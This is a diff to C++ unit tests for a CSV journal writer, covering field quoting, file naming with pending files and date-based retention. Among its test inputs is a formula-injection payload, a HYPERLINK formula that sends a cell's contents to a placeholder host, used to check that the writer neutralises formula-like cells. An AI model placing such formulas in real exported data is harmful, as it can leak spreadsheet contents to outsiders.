@@ -76,7 +76,7 @@ TEST(JournalRow, FieldsThatNeedQuotingReadBackExactly)
     const char* const table[] = {
         "",     "\r\n",       "\r",      "\n",       "\"",          "\"\"",   ",",        "a\"\"b",
         "=1+1", "\"quoted\"", "-5",      "end,\r\n", "\",\r\n\"",    "@x",     " spaced ", "\r\n\r\n",
-        "+1",   ("\xC3\x9C" "ber \xE2\x80\x93 x"),
+        "+1",   ("\xC3\x9C" "ber \xE2\x80\x93 x"),  "'=x", "''@x", "'x", "\tx", "\rx", "'",
     };
     for (const char* text : table) {
         const JournalRow row = rowWith(text, text);
@@ -101,7 +101,12 @@ TEST(JournalRow, IsWrittenInTheJournalsOwnForm)
         {{2027, 1, 2, 3, 4, 5, 6, -330}, 12, "a,\"b\"", "\xFF", JournalAction::TypedAgain,
          "2027-01-02T03:04:05.006-05:30,COM12,\"a,\"\"b\"\"\",FF,W,p.exe,typed again,2027-01-02T03:04:05.006-05:30\r\n"},
         {{2026, 6, 30, 23, 59, 59, 999, 0}, 1, "=1+1", "", JournalAction::Typed,
-         "2026-06-30T23:59:59.999+00:00,COM1,=1+1,,W,p.exe,typed,2026-06-30T23:59:59.999+00:00\r\n"},
+         "2026-06-30T23:59:59.999+00:00,COM1,'=1+1,,W,p.exe,typed,2026-06-30T23:59:59.999+00:00\r\n"},
+        {{2026, 6, 30, 23, 59, 59, 999, 0}, 1, "-2+3", "-", JournalAction::Typed,
+         "2026-06-30T23:59:59.999+00:00,COM1,'-2+3,2D,W,p.exe,typed,2026-06-30T23:59:59.999+00:00\r\n"},
+        {{2026, 6, 30, 23, 59, 59, 999, 0}, 1, "=HYPERLINK(\"http://x.invalid/?\"&A1)", "", JournalAction::Typed,
+         "2026-06-30T23:59:59.999+00:00,COM1,\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1)\",,W,p.exe,typed,"
+         "2026-06-30T23:59:59.999+00:00\r\n"},
     };
     EXPECT_EQ(journalFileStart(), "\xEF\xBB\xBFTime,Port,Record,Bytes,Window,Program,Action,Transfer\r\n");
     for (const auto& row : table) {
@@ -111,56 +116,76 @@ TEST(JournalRow, IsWrittenInTheJournalsOwnForm)
     }
 }
 
-TEST(JournalFileName, ChangesAtLocalMidnight)
+TEST(JournalFileName, ChangesAtLocalMidnightAndNamesItsPendingFile)
 {
     const struct {
         LocalTime time;
         const char* name;
+        const char* pending;
     } table[] = {
-        {{2026, 12, 9, 23, 59, 59, 999, 60}, "2026-12-09.csv"},
-        {{2026, 12, 10, 0, 0, 0, 0, 60}, "2026-12-10.csv"},
-        {{2026, 12, 31, 23, 59, 59, 999, -300}, "2026-12-31.csv"},
-        {{2027, 1, 1, 0, 0, 0, 0, -300}, "2027-01-01.csv"},
+        {{2026, 12, 9, 23, 59, 59, 999, 60}, "2026-12-09.csv", "2026-12-09 pending.csv"},
+        {{2026, 12, 10, 0, 0, 0, 0, 60}, "2026-12-10.csv", "2026-12-10 pending.csv"},
+        {{2027, 1, 1, 0, 0, 0, 0, -300}, "2027-01-01.csv", "2027-01-01 pending.csv"},
     };
     for (const auto& row : table) {
         EXPECT_EQ(journalFileName(row.time), row.name);
-        EXPECT_TRUE(journalFileDate(row.name));
+        EXPECT_EQ(pendingFileName(dayOf(row.time)), row.pending);
+        EXPECT_EQ(journalFileOf(row.name), (JournalFile{dayOf(row.time), false}));
+        EXPECT_EQ(journalFileOf(row.pending), (JournalFile{dayOf(row.time), true}));
     }
+    for (const char* other : {"2000-01-01.CSV", "2000-01-01.csv.bak", "2000-1-01.csv", "2000-01-01.txt",
+                              "2000-13-01.csv", "2001-02-29.csv", "2000-01-00.csv", "+000-01-01.csv", "",
+                              "2000-01-01 Pending.csv", "2000-01-01 pending.csv.bak", "notes.csv"})
+        EXPECT_FALSE(journalFileOf(other)) << other;
 }
 
-TEST(JournalFileExpired, AfterTheKeptDays)
+// The names of a file for each of `count` days, one every `step` days,
+// the last on `last`.
+std::vector<std::string> daysUpTo(JournalDay last, int count, int step = 1)
 {
+    std::vector<std::string> names;
+    for (int i = count - 1; i >= 0; --i)
+        names.push_back(journalFileName(dayFromNumber(dayNumber(last) - static_cast<long long>(i) * step)));
+    return names;
+}
+
+// A file goes once it is older than the days kept by the clock and the
+// journal holds more newer days than that: a clock a year ahead, or
+// decades behind, removes nothing that the right clock would keep.
+TEST(JournalRetention, GoesByTheClockAndByTheJournalsOwnDays)
+{
+    const JournalDay today{2026, 12, 9};
+    const auto daily = daysUpTo({2026, 12, 8}, 91);   // 2026-09-09 to yesterday
+    const auto weekly = daysUpTo({2026, 12, 2}, 93, 7);
+    const auto with = [](std::vector<std::string> names, const char* more) {
+        names.push_back(more);
+        return names;
+    };
     const struct {
         const char* name;
-        int year, month, day, keepDays;
-        bool expired;
+        std::vector<std::string> held;
+        JournalDay today;
+        int keepDays;
+        std::vector<std::string> expired;
     } table[] = {
-        {"2026-09-11.csv", 2026, 12, 9, 90, false},   // 89 days
-        {"2026-09-10.csv", 2026, 12, 9, 90, false},   // 90 days
-        {"2026-09-09.csv", 2026, 12, 9, 90, true},    // 91 days
-        {"2026-10-03.csv", 2027, 1, 1, 90, false},    // 90 days, across the year end
-        {"2026-10-02.csv", 2027, 1, 1, 90, true},     // 91 days, across the year end
-        {"2027-12-02.csv", 2028, 3, 1, 90, false},    // 90 days, over a leap day
-        {"2027-12-01.csv", 2028, 3, 1, 90, true},     // 91 days, over a leap day
-        {"2028-02-29.csv", 2028, 3, 1, 1, false},     // the leap day itself
-        {"2028-02-28.csv", 2028, 3, 1, 1, true},
-        {"2026-12-09.csv", 2026, 12, 9, 0, false},    // today is kept
-        {"2026-12-09.csv", 2026, 12, 9, -1, false},
-        {"2026-12-08.csv", 2026, 12, 9, 0, true},
-        {"2027-01-01.csv", 2026, 12, 9, 90, false},   // a clock set back
-        {"2000-01-01.CSV", 2026, 12, 9, 90, false},   // names that are not journal files
-        {"2000-01-01.csv.bak", 2026, 12, 9, 90, false},
-        {"2000-1-01.csv", 2026, 12, 9, 90, false},
-        {"2000-01-01.txt", 2026, 12, 9, 90, false},
-        {"2000-13-01.csv", 2026, 12, 9, 90, false},
-        {"2001-02-29.csv", 2026, 12, 9, 90, false},
-        {"2000-01-00.csv", 2026, 12, 9, 90, false},
-        {"+000-01-01.csv", 2026, 12, 9, 90, false},
-        {"", 2026, 12, 9, 90, false},
+        {"a file every day: the 91st day back goes", daily, today, 90, {"2026-09-09.csv"}},
+        {"its pending file with it", with(daily, "2026-09-09 pending.csv"), today, 90,
+         {"2026-09-09.csv", "2026-09-09 pending.csv"}},
+        {"across the year end", daysUpTo({2026, 12, 31}, 91), {2027, 1, 1}, 90, {"2026-10-02.csv"}},
+        {"over a leap day", daysUpTo({2028, 2, 29}, 2), {2028, 3, 1}, 1, {"2028-02-28.csv"}},
+        {"today is kept, however few days", daysUpTo(today, 2), today, 0, {"2026-12-08.csv"}},
+        {"a negative count keeps today", daysUpTo(today, 2), today, -1, {"2026-12-08.csv"}},
+        // The PC starts a year ahead one morning, and the next: what the
+        // right clock removes those days, and nothing more.
+        {"a clock a year ahead", daily, {2027, 12, 9}, 90, {"2026-09-09.csv"}},
+        {"a clock a year ahead, the next day", with(daysUpTo({2026, 12, 8}, 90), "2027-12-09.csv"), {2027, 12, 10},
+         90, {"2026-09-10.csv"}},
+        {"a clock decades behind", daily, {2000, 1, 1}, 90, {}},
+        {"a PC used once a week keeps 90 days of use", weekly, today, 90, {weekly[0], weekly[1], weekly[2]}},
+        {"other names never go", {"2000-01-01.csv.bak", "notes.csv", "2000-01-01.txt"}, today, 0, {}},
     };
     for (const auto& row : table)
-        EXPECT_EQ(journalFileExpired(row.name, row.year, row.month, row.day, row.keepDays), row.expired)
-            << row.name << " on " << row.year << '-' << row.month << '-' << row.day << " keeping " << row.keepDays;
+        EXPECT_EQ(expiredJournalFiles(row.held, row.today, row.keepDays), row.expired) << row.name;
 }
 
 TEST(JournalRepair, CutsOffOnlyATornLastRow)
